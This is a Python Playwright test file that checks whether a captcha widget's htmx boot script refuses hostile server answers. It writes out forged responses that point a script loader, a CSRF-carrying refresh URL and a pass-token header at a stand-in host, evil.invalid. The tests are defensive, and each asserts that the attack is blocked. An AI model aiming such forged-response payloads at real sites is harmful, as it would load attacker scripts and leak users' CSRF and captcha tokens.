"""The boot script fed answers it must not trust: what another origin, or a response someone
else wrote, says is never a script to load, a place to post the CSRF token, or a place (or a
header) to send a pass token. ``page.route`` stands in for those answers."""

import json

import pytest

from tests.e2e.browsing import set_mode

pytestmark = pytest.mark.e2e

EVIL = "https://evil.invalid"
CHECK = "dialog.captchala-dialog .captchala-sandbox-check"


def required(captcha=None, **extra):
    """An ``HX-Trigger`` header of a 403 as a guarded view writes it, with ``captcha`` and
    ``extra`` changed."""
    hints = {"app_key": "sandbox-app-key", "action": "", "refresh_url": "", "product": "bind"}
    event = {"error": "captcha_required", "detail": "Please complete the check to continue."}
    event |= {"captcha": hints | (captcha or {})} | extra
    return json.dumps({"captchala:required": event})


@pytest.fixture
def evil(page):
    """Every request to another origin, answered (CORS open), so that nothing is left to
    fail on its own: only the boot script may keep a request from being made."""
    seen = []
    cors = {
        "Access-Control-Allow-Origin": "*",
        "Access-Control-Allow-Headers": "*",
        "Access-Control-Expose-Headers": "HX-Trigger",
    }

    def answer(route):
        seen.append(route.request)
        if route.request.method == "OPTIONS":
            route.fulfill(status=204, headers=cors)
        else:
            route.fulfill(status=200, body="window.pwned = true;", headers=cors)

    page.route(EVIL + "/**", answer)
    return seen


def forge(page, server, trigger, then=None):
    """The demo's /htmx/transfer/ answers a 403 with ``trigger``, then ``then`` (HTML, 200)."""
    calls = []

    def answer(route):
        calls.append(route.request.headers)
        if len(calls) == 1 or then is None:
            route.fulfill(status=403, body="<p>no</p>", headers={"HX-Trigger": trigger})
        else:
            route.fulfill(status=200, body=then, content_type="text/html")

    page.route(server + "/htmx/transfer/", answer)
    return calls


@pytest.fixture
def htmx_page(page, module_demo_server):
    other = page.context.new_page()
    set_mode(other, module_demo_server, "none")
    other.close()
    return page


def test_a_loader_url_in_an_answer_is_never_loaded(htmx_page, module_demo_server, evil):
    """With the page's own loader missing (blocked here), an answer's ``loader_url`` is still
    not loaded: it would run a script the answer chose, with the page's nonce."""
    page = htmx_page
    page.route("**/captchala-loader.js", lambda route: route.abort())
    forge(page, module_demo_server, required({"loader_url": EVIL + "/x.js"}))
    page.goto(module_demo_server + "/htmx/")
    page.click("#htmx-form button[type=submit]")
    page.locator("dialog.captchala-dialog").wait_for()
    scripts = page.evaluate("Array.from(document.scripts).map(s => s.src)")
    assert not [src for src in scripts if "evil" in src]
    assert evil == [] and page.evaluate("window.pwned === undefined")


def test_a_refresh_url_on_another_origin_gets_no_request(htmx_page, module_demo_server, evil):
    """The refresh carries the page's CSRF token: another origin never gets it."""
    page = htmx_page
    hints = {"refresh_url": EVIL + "/steal", "action": "login"}
    forge(page, module_demo_server, required(hints))
    page.goto(module_demo_server + "/htmx/")
    page.click("#htmx-form button[type=submit]")
    page.locator(CHECK).wait_for()  # started without a server token
    assert evil == []


def test_the_pass_token_goes_in_its_own_header_whatever_the_answer_names(
    htmx_page, module_demo_server
):
    page = htmx_page
    calls = forge(
        page,
        module_demo_server,
        required(token_header="X-Leak"),
        then='<p id="htmx-done">ok</p>',
    )
    page.goto(module_demo_server + "/htmx/")
    page.click("#htmx-form button[type=submit]")
    page.locator(CHECK).click()
    page.locator("#htmx-done").wait_for()
    assert calls[1]["x-captchala-token"].startswith("pt_")
    assert "x-leak" not in calls[1]


def test_another_origins_answer_does_not_show_this_sites_check(htmx_page, module_demo_server):
    """An hx-post to another origin (htmx.config.selfRequestsOnly off) answered with the
    event: no dialog, so the user solves nothing for it and no pass token leaves the site."""
    page = htmx_page
    sent = []
    cors = {
        "Access-Control-Allow-Origin": module_demo_server,
        "Access-Control-Allow-Headers": "*, hx-request, hx-current-url, hx-target, hx-trigger",
        "Access-Control-Expose-Headers": "HX-Trigger",
    }

    def partner(route):
        if route.request.method == "OPTIONS":
            route.fulfill(status=204, headers=cors)
            return
        sent.append(route.request.headers)
        route.fulfill(status=403, body="", headers={**cors, "HX-Trigger": required()})

    page.route(EVIL + "/**", partner)
    page.goto(module_demo_server + "/htmx/")
    page.evaluate(
        """() => {
          htmx.config.selfRequestsOnly = false;
          document.addEventListener("htmx:afterRequest", () => { window.answered = true; });
          const button = document.createElement("button");
          button.id = "partner";
          button.setAttribute("hx-post", "https://evil.invalid/api");
          button.setAttribute("hx-target", "#htmx-result");
          document.querySelector("main").appendChild(button);
          htmx.process(button);
        }"""
    )
    page.click("#partner")
    page.wait_for_function("window.answered === true")
    assert len(sent) == 1 and "x-captchala-token" not in sent[0]
    assert page.locator("dialog.captchala-dialog").count() == 0
